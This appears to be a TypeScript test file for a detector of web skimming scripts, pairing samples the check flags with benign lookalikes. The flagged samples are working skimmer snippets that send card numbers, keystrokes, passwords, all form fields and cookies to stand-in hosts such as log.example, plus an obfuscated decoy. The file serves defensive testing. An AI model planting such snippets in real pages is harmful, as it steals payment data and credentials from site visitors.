import { testCheck } from '../../../test/check-table.ts'
import { script } from '../../../test/evidence.ts'
import check from './skimmer-file.ts'

const file = (body: string) => ({ script: script(body) })
const card = `document.getElementById('cc_number').value`

testCheck(check, {
  fires: [
    {
      name: 'appended to a library',
      evidence: file(
        `!function(){window.lib=1}();(function(){document.querySelector('#payment').onclick=function(){new Image().src='//cdn.stat.example/i.gif?'+${card}}})()`,
      ),
      outcome: 'card',
    },
    {
      name: 'openly',
      evidence: file(`fetch('https://other.example/pay', { method: 'POST', body: ${card} })`),
      outcome: 'card_elsewhere',
    },
    {
      name: 'keys',
      evidence: file(`document.onkeypress = function (e) { new Image().src = 'https://log.example/k?' + e.key }`),
      outcome: 'keys',
    },
    {
      name: 'a password',
      evidence: file(
        `new Image().src = 'https://log.example/k?' + btoa(document.querySelector('input[type="password"]').value)`,
      ),
      outcome: 'password',
    },
    {
      name: 'all fields',
      evidence: file(
        `fetch('https://log.example/f', { method: 'POST', body: btoa(JSON.stringify([...document.querySelectorAll('input')].map((i) => i.value))) })`,
      ),
      outcome: 'fields_elsewhere',
    },
    { name: 'cookies', evidence: file(`location = 'https://log.example/?' + document.cookie`), outcome: 'cookies' },
    {
      name: 'unreadable',
      evidence: file(
        `var _0xabcd=['cc_number','cc_cid','checkout','sendBeacon'];${Array.from({ length: 24 }, (_, n) => `var _0x${(4096 + n).toString(16)}=_0xabcd[${n % 4}];`).join('')}`,
      ),
      outcome: 'unreadable',
    },
  ],
  silent: [
    { name: 'to the site', evidence: file(`fetch('/pay', { method: 'POST', body: ${card} })`), verdict: 'pass' },
    {
      name: 'to a provider',
      evidence: file(`fetch('https://api.mollie.com/v2', { method: 'POST', body: ${card} })`),
      verdict: 'pass',
    },
    {
      name: 'checked, not sent',
      evidence: file(`if (!luhn(${card})) fetch('https://stats.example/e?n=invalid')`),
      verdict: 'pass',
    },
    { name: 'a length', evidence: file(`fetch('https://stats.example/e?n=' + ${card}.length)`), verdict: 'pass' },
    {
      name: 'an editor with short cuts',
      evidence: file(`document.onkeydown = (e) => { if (e.key === 's') save() }`),
      verdict: 'pass',
    },
    {
      name: 'an error reporter',
      evidence: file(
        `window.onerror = (m) => { new Image().src = 'https://errors.example/?m=' + encodeURIComponent(m) + '&u=' + location.href }`,
      ),
      verdict: 'pass',
    },
    { name: 'no script', evidence: file('{"a":1}'), verdict: 'pass' },
  ],
})
